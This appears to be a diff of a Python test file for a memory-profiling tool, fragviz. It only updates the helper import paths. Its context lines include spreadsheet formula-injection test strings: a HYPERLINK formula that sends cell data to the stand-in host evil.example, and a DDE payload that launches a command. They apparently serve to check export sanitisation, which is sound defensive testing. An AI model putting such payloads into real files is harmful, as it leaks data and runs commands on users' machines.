@@ -17,7 +17,7 @@ from fragviz.replay.analysis import analyze
 from fragviz.doctor.report import report_dict
 from fragviz.snapshot import load_snapshot
 from fragviz.usage.kinds import KINDS
-from helpers import REAL
+from tests.support.helpers import REAL
 
 FRAGVIZ = os.path.join(os.path.dirname(sys.executable), "fragviz")
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
@@ -258,7 +258,7 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0"
 
 
 def hostile_frames_snapshot(path: str) -> str:
-    from helpers import block, ev, segment, snapshot, write_pickle
+    from tests.support.helpers import block, ev, segment, snapshot, write_pickle
 
     stack = [{"filename": text, "line": 1, "name": text} for text in FORMULAS]
     events = [ev("segment_alloc", 0, 4 << 20), ev("alloc", 0, 1 << 20, frames=stack),
